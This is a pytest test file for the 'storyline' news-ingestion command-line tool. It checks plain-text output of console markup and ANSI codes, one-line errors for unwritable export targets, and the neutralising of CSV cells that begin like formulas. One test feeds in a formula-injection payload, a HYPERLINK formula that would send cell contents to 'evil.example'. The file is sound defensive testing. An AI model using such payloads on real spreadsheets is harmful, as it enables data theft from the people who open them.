"""The real `storyline` command on hostile names, titles and targets: plain output, one-line
errors with exit code 2, nothing created for a path that does not exist, exports that a
spreadsheet cannot turn into formulas."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from conftest import run_cli
from hostile import GOOD, assert_good_kept, good_pile


@pytest.fixture(scope="module")
def marked_store(tmp_path_factory):
    """Two good articles and one whose file name and title hold console markup and ANSI codes."""
    root = tmp_path_factory.mktemp("marked")
    folder = good_pile(root / "pile")
    (folder / "[red]alert[").mkdir()  # the path reads .../[red]alert[/bold].txt
    (folder / "[red]alert[" / "bold].txt").write_text(
        "Minister [/bold] quits [red]over \x1b[31mharbour\x1b[0m deal\n\nThe harbour minister resigned on Friday "
        "after the port deal was leaked, her office said.\n", encoding="utf-8")
    (folder / "broken[").mkdir()
    (folder / "broken[" / "].txt").write_bytes(b"")
    db = root / "s.duckdb"
    proc = run_cli("ingest", str(folder), "--db", str(db))
    return proc, db, folder


def test_markup_in_paths_and_titles_is_printed_as_plain_text(marked_store):
    proc, db, folder = marked_store
    assert "3 new articles from 4 files, 1 problem" in proc.stdout
    assert f"{folder}/broken[/].txt: empty file" in proc.stderr
    articles = assert_good_kept(db, extra=1)
    listing = run_cli("list", "--db", str(db))
    assert "\x1b" not in listing.stdout
    assert "Minister [/bold] quits [red]over \\x1b[31mharbour\\x1b[0m deal" in listing.stdout
    for title, _ in GOOD.values():
        assert title in listing.stdout
    marked = next(a for a in articles if "Minister" in (a.title or ""))
    shown = run_cli("show", marked.id, "--db", str(db))
    assert "\x1b" not in shown.stdout and "Minister [/bold] quits [red]over" in shown.stdout
    assert "[red]alert[/bold].txt" in shown.stdout


@pytest.mark.parametrize("target, reason", [
    ("missing/out.json", "the folder {tmp}/missing does not exist"),
    ("", "it is a folder"),
    ("/dev/full", "no space left on the device"),
    ("/sys/storyline-export.json", "permission denied"),
])
def test_export_to_a_target_that_cannot_be_written_is_one_line_and_exit_2(marked_store, tmp_path, target, reason):
    if target.startswith("/sys") and os.access("/sys", os.W_OK) and os.geteuid() != 0:
        pytest.skip("/sys is writable here")
    _, db, _ = marked_store
    output = target if target.startswith("/") else str(tmp_path / target)
    proc = run_cli("export", "--db", str(db), "-o", output, check=False)
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: cannot write") and "Traceback" not in proc.stderr
    assert reason.format(tmp=tmp_path) in lines[0]


def test_export_table_with_json_is_an_error(marked_store):
    _, db, _ = marked_store
    proc = run_cli("export", "--format", "json", "--table", "quotes", "--db", str(db), check=False)
    assert proc.returncode == 2 and "--table works with --format csv or jsonl" in proc.stderr


def test_serve_refuses_a_bad_port_and_a_missing_store(marked_store, tmp_path):
    _, db, _ = marked_store
    proc = run_cli("serve", "--db", str(db), "--port", "99999", check=False)
    assert proc.returncode == 2 and proc.stderr.strip() == "error: --port must be between 1 and 65535, not 99999"
    typo = tmp_path / "typo.duckdb"
    proc = run_cli("serve", "--db", str(typo), check=False)
    assert proc.returncode == 2 and f"{typo}: no such store" in proc.stderr
    assert not typo.exists()


def test_run_and_ingest_fail_when_nothing_could_be_read_and_create_nothing_for_a_typo(marked_store, tmp_path):
    db, report = tmp_path / "new.duckdb", tmp_path / "report"
    proc = run_cli("run", str(tmp_path / "nowhere"), "--db", str(db), "--out", str(report), check=False)
    assert proc.returncode == 2 and "nowhere: no such file or directory" in proc.stderr
    assert not db.exists() and not report.exists()
    proc = run_cli("ingest", str(tmp_path / "nowhere"), "--db", str(db), check=False)
    assert proc.returncode == 2 and not db.exists()
    _, existing, _ = marked_store
    before = existing.stat().st_size
    proc = run_cli("ingest", str(tmp_path / "nowhere"), "--db", str(existing), check=False)
    assert proc.returncode == 2 and existing.stat().st_size == before
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "blank.txt").write_bytes(b"")
    (tmp_path / "bad" / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    proc = run_cli("ingest", str(tmp_path / "bad"), "--db", str(existing), check=False)
    assert proc.returncode == 2
    assert "blank.txt: empty file" in proc.stderr and "photo.txt: skipped: PNG image" in proc.stderr


# -- export tables ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def analysed_store():
    from web_data import corpus_store

    return corpus_store("export")


def _csv(db: Path, table: str) -> list[dict]:
    proc = run_cli("export", "--format", "csv", "--table", table, "--db", str(db))
    return list(csv.DictReader(io.StringIO(proc.stdout)))


def test_claims_and_conflicts_tables_and_quotes_with_outlet_date_and_speaker(analysed_store):
    data = json.loads(run_cli("export", "--db", str(analysed_store)).stdout)
    claims = _csv(analysed_store, "claims")
    expected = sum(len(s["claims"]) for s in data["stories"])
    assert expected > 0 and len(claims) == expected
    assert {"story_id", "text", "status", "sources", "outlets"} <= set(claims[0])
    conflicts = _csv(analysed_store, "conflicts")
    assert len(conflicts) == sum(len(c["values"]) for s in data["stories"] for c in s["conflicts"]) > 0
    assert {"kind", "about", "value", "article_id", "outlet", "date"} <= set(conflicts[0])
    quotes = _csv(analysed_store, "quotes")
    sources = {a["id"]: (a["source"], a["published"]) for a in data["articles"]}
    names = {e["id"]: e["name"] for e in data["entities"]}
    for q in quotes:
        assert (q["outlet"] or None, q["published"] or None) == sources[q["article_id"]]
        assert (q["speaker_name"] or None) == names.get(q["speaker_entity"])
    assert any(q["speaker_name"] for q in quotes)
    jsonl = run_cli("export", "--format", "jsonl", "--table", "claims", "--db", str(analysed_store)).stdout
    rows = [json.loads(line) for line in jsonl.splitlines()]
    assert len(rows) == expected and {r["type"] for r in rows} == {"claim"}


def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path):
    folder = good_pile(tmp_path / "pile")
    (folder / "sheet.jsonl").write_text(json.dumps({
        "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "source": "+Wire", "author": "@desk",
        "text": "-5 degrees at the harbour overnight, the weather office said on Monday."}) + "\n", encoding="utf-8")
    db = tmp_path / "s.duckdb"
    run_cli("ingest", str(folder), "--db", str(db))
    rows = _csv(db, "articles")
    sheet = next(r for r in rows if r["path"].endswith("sheet.jsonl"))
    assert sheet["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    assert (sheet["source"], sheet["author"]) == ("'+Wire", "'@desk")
    assert sheet["text"].startswith("'-5 degrees")
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values() if value)


def test_a_reader_told_clearly_when_another_process_writes_too_long(marked_store):
    from storyline.store import Store

    _, db, _ = marked_store
    with Store(db):  # this test process holds the store for writing
        proc = run_cli("list", "--db", str(db), check=False, env={"STORYLINE_LOCK_WAIT": "0.5"})
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "the store is being written by another process" in proc.stderr
    assert run_cli("list", "--db", str(db)).returncode == 0  # and works once it is let go


def test_a_reader_waits_for_a_short_write_to_end(marked_store):
    import threading
    import time

    from storyline.store import Store

    _, db, _ = marked_store
    writer = Store(db)  # a write in progress, as while the server analyses an upload
    threading.Timer(3.0, writer.close).start()
    t0 = time.monotonic()
    proc = run_cli("list", "--db", str(db), check=False, env={"STORYLINE_LOCK_WAIT": "60"})
    assert proc.returncode == 0, proc.stderr
    assert time.monotonic() - t0 >= 3.0 and "harbour" in proc.stdout.lower()
